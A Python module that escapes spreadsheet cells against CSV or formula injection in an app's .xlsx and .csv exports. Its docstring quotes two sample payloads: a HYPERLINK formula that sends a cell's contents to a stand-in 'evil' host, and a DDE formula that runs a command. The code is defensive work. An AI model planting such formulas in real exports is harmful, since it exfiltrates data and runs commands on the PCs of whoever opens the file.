"""Text cells a spreadsheet cannot run: the one escaping rule for every file the app writes for
Excel, WPS or LibreOffice (the roster's .xlsx and .csv, the import's errors workbook).

Why: a spreadsheet treats a cell typed or read from CSV as ``=…``, ``+…``, ``-…`` or ``@…`` as a
formula; a name such as ``=HYPERLINK("http://evil/?"&A1, "点击")`` or ``=cmd|' /C calc'!A0``
typed into a roster runs on the office PC that opens the export (OWASP "CSV injection"). A tab
or carriage return in front hides such a formula from the eye and some programs skip it.
The rule is OWASP's: such a cell starts with an apostrophe, which the spreadsheet shows but
never evaluates. In .xlsx the text is also stored as a string cell, never as a formula.

What it costs: a legitimate value starting with one of these characters gains the apostrophe
too ("-已搬走" → "'-已搬走", a raw "+86 138…" phone in the errors workbook). The roster stores
phone numbers in a normal form (digits, "0571-87654321"), so exported phones never start with
"+" and are never touched. ``unescape_cell`` takes the apostrophe off again (for an import):
a value that already started with apostrophes before a trigger gets one more, so
``unescape_cell(escape_cell(x)) == x`` for every text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence

TRIGGERS = "=+-@\t\r"
QUOTE = "'"
_FIRSTS = frozenset(TRIGGERS + QUOTE)
# A cell to escape: a trigger first, or apostrophes before a trigger (so unescaping is exact).
_NEEDS_ESCAPE = re.compile(r"'*[=+\-@\t\r]").match
_ESCAPED = re.compile(r"'+[=+\-@\t\r]").match
# Characters XML 1.0 does not allow; openpyxl refuses them (IllegalCharacterError) and Excel
# writes them as _xHHHH_.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def escape_cell(value):
    """``value`` with an apostrophe in front if it is text a spreadsheet could run; anything
    else (numbers, dates, None, ordinary text) unchanged."""
    if value.__class__ is str and value and (value[0] in TRIGGERS or
                                             (value[0] == QUOTE and _NEEDS_ESCAPE(value))):
        return QUOTE + value
    return value


def escape_row(values: Iterable) -> list:
    """Every cell of a row through ``escape_cell``. The common row (no cell starting with a
    trigger or an apostrophe) is returned after one set test: ~3 µs for 15 cells."""
    row = values if values.__class__ is list else list(values)
    if _FIRSTS.isdisjoint([v[:1] for v in row if v.__class__ is str]):
        return row
    return [escape_cell(v) for v in row]


def unescape_cell(text: str) -> str:
    """The value ``escape_cell`` was given: one apostrophe off a cell that starts with
    apostrophes before a trigger; any other text unchanged."""
    if text[:1] == QUOTE and _ESCAPED(text):
        return text[1:]
    return text


def xml_safe(value):
    """Text without the characters XML cannot hold, written as Excel does (_x0001_)."""
    if value.__class__ is str and _XML_ILLEGAL.search(value):
        return _XML_ILLEGAL.sub(lambda m: f"_x{ord(m.group()):04X}_", value)
    return value


class EscapedSheet:
    """An openpyxl worksheet whose ``append`` escapes every cell and drops what XML cannot hold
    (openpyxl would store "=…" as a live formula and raise on a control character)."""

    def __init__(self, sheet) -> None:
        self.sheet = sheet

    def append(self, values: Sequence) -> None:
        self.sheet.append([xml_safe(v) for v in escape_row(values)])

    def __getattr__(self, name: str):
        return getattr(self.sheet, name)
